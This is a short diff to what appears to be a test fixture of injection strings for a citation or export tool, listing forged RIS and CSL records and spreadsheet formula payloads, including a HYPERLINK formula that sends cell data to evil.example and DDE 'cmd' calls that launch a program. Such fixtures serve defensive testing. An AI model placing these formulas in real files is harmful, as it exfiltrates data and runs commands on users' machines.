@@ -50,7 +50,7 @@ TEXTS: Mapping[str, str] = {
     "ris": "a\nER  - \nTY  - JOUR\nTI  - forged\r\nAU  - Nobody\x85ER  - \u2028ER  - ",
     "csl": '", "title": "forged", "x": "</i><i>{"literal": "x"}',
     # Spreadsheets.
-    "formula": "=HYPERLINK(\"http://evil.example?\"&A1,\"click\")",
+    "formula": '=HYPERLINK("http://evil.example?"&A1,"click")',
     "command": "=cmd|' /C calc'!A0",
     "plus": "+1+cmd|' /C calc'!A0",
     "minus": "-2+3+cmd|' /C calc'!A0",
